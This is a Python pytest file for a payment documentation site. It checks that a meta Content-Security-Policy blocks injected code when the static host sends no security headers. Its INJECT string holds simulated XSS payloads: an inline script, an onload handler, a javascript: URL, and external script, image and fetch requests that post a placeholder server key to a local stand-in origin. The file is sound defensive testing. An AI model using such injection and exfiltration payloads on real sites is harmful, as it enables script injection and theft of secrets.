"""The security policy holds where the site is published: GitHub Pages sends none of our headers.

The site is served by a plain static server with no response headers of ours; every page's
`<meta http-equiv="Content-Security-Policy">` (midtrans_docs/hooks/headers.py, the same policy as _headers
less what only a header can carry) must still block an injected inline script and any request to
another origin, while the page's own inline scripts run without a violation.
"""

from __future__ import annotations

import re
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from midtrans_docs.hooks.headers import HEADER_ONLY, INLINE_SCRIPT
from midtrans_docs.site.server import serve
from midtrans_docs.site.urls import html_files

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="(?P<policy>[^"]*)">')
# Pages a reader pastes keys and bodies into, and the home page.
PAGES = ["/", "/after-payment/http-notification/", "/id/after-payment/http-notification/"]
# Records every security-policy violation, from the first byte of the page on.
RECORD_VIOLATIONS = (
    "window.__violations = [];"
    "document.addEventListener('securitypolicyviolation', e =>"
    " window.__violations.push({directive: e.effectiveDirective, blocked: e.blockedURI}));"
)
# What an attacker's text would try once it reached the DOM: inline code three ways, and three requests
# to another origin (the other server on 127.0.0.1 has another port, so another origin).
INJECT = """async (other) => {
  const s = document.createElement('script');
  s.textContent = 'window.__injected = "script"';
  document.head.append(s);
  const div = document.createElement('div');
  div.innerHTML = '<img src="/assets/images/logo.svg?x" onload="window.__injected = \\'handler\\'">';
  document.body.append(div);
  const a = document.createElement('a');
  a.href = 'javascript:void(window.__injected = "url")';
  document.body.append(a);
  a.click();
  const ext = document.createElement('script');
  ext.src = other + '/script.js';
  document.head.append(ext);
  new Image().src = other + '/pixel.gif';
  let fetched = 'blocked';
  try { await fetch(other + '/collect', {method: 'POST', body: 'SB-Mid-server-YOUR_SERVER_KEY'}); fetched = 'sent'; }
  catch (e) { fetched = 'blocked'; }
  await new Promise(r => setTimeout(r, 300));
  return {injected: window.__injected || null, fetched: fetched};
}"""


class _Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def _record(self) -> None:
        self.hits.append(f"{self.command} {self.path}")
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _record

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def bare_url(site: Path) -> Iterator[str]:
    """The site as a plain static server gives it: no CSP, HSTS or nosniff header."""
    with serve(site, with_headers=False) as url:
        yield url


@pytest.fixture
def other_origin() -> Iterator[tuple[str, list[str]]]:
    """A server on another port of 127.0.0.1 (another origin) that records what reaches it."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def header_policy(site: Path) -> str:
    text = (site / "_headers").read_text(encoding="utf-8")
    found = re.search(r"^  Content-Security-Policy: (.*)$", text, re.M)
    assert found, "_headers has no Content-Security-Policy line"
    return found.group(1)


def test_every_page_carries_the_header_policy_first_in_head(site):
    """One policy: the meta is _headers' policy less the header-only directives, before any script."""
    expected = "; ".join(d for d in header_policy(site).split("; ") if not d.startswith(HEADER_ONLY))
    assert "frame-ancestors 'none'" in header_policy(site)
    pages, _stubs = html_files(site)
    assert len(pages) > 100
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head = text[: text.index("</head>")]
        metas = META.findall(head)
        assert metas == [expected], f"{page.relative_to(site)}: no meta policy, or not _headers' policy"
        first_script = INLINE_SCRIPT.search(head) or re.search(r"<script", head)
        assert first_script is None or META.search(head).start() < first_script.start(), (
            f"{page.relative_to(site)}: a script comes before the meta policy, so it runs unchecked"
        )


def test_plain_server_sends_no_policy_header(bare_url):
    with urllib.request.urlopen(bare_url + "/") as response:
        assert response.headers.get("Content-Security-Policy") is None
        assert response.headers.get("Strict-Transport-Security") is None


@pytest.mark.browser
@pytest.mark.parametrize("path", PAGES)
def test_meta_policy_blocks_injection_without_headers(page, bare_url, other_origin, path):
    other, hits = other_origin
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(bare_url + path)
    page.wait_for_load_state("load")
    # The page's own inline scripts are hashed into the policy: none of them is refused.
    assert page.evaluate("window.__violations") == [], "the meta policy blocks one of the page's own scripts"
    assert page.evaluate("typeof __md_get") == "function", "Material's inline script did not run"
    result = page.evaluate(INJECT, other)
    assert result == {"injected": None, "fetched": "blocked"}, result
    assert hits == [], f"a request reached another origin: {hits}"
    directives = {v["directive"] for v in page.evaluate("window.__violations")}
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= directives, directives


@pytest.mark.browser
def test_without_the_meta_the_same_injection_runs(page, bare_url, other_origin):
    """The control: the same page with its meta policy cut out runs the injected code, so the test above
    proves the meta element, not the server or the browser, is what blocks it. (Requests are not compared
    here: Chromium treats a document fulfilled by a route as public and refuses its requests to 127.0.0.1 on
    its own; the test above proves the policy refuses them by the violations it reports.)"""
    other, _hits = other_origin

    def strip_meta(route):
        response = route.fetch()
        route.fulfill(response=response, body=META.sub("", response.text()))

    page.route(bare_url + "/", strip_meta)
    page.goto(bare_url + "/")
    result = page.evaluate(INJECT, other)
    assert result["injected"] is not None, result
